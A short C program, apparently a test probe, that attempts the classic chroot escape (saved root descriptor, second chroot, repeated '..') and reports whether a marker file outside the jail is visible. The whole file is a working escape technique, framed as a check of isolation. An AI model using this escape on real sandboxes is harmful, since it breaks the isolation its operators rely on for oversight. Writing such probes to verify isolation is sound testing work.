// Tries the classic escape from a chroot: a second chroot below an open directory, then "..".
//   jail MARKER    prints the result of each step, and "escaped" or "jailed"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *step, int result) {
  printf("%s %s\n", step, result ? strerrorname_np(errno) : "ok");
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  int here = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/jail", 0755);
  say("chroot", chroot("/tmp/jail"));
  say("fchdir", fchdir(here));
  for (int i = 0; i < 64; i++) chdir("..");
  say("chroot .", chroot("."));
  char relative[4096] = ".";
  strncat(relative, argv[1], sizeof relative - 2);
  int seen = !access(argv[1], F_OK) || !access(relative, F_OK);
  puts(seen ? "escaped" : "jailed");
  return seen;
}
